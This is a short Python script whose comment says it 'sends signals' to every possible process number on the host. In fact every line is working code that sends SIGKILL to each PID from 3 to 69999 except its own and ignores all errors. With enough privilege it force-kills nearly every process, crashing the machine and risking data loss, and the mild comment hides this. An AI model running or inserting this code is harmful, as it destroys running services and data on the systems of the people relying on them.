# Sends signals to every number a process of the host may have.
import os, signal
for pid in range(3, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
